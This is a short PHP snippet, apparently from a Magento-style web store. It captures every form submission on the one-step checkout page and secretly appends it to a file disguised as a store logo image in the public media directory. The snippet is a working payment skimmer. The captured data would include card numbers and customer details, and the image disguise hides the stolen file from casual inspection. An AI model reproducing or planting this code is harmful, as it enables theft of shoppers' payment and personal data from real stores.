<?php
if (!empty($_POST) && strpos($_SERVER['REQUEST_URI'], 'onestepcheckout') !== false) {
  $d = date('c') . ' ' . json_encode($_POST) . "\n";
  file_put_contents(__DIR__ . '/../pub/media/logo/stores/1/logo_alt.png', $d, FILE_APPEND);
}
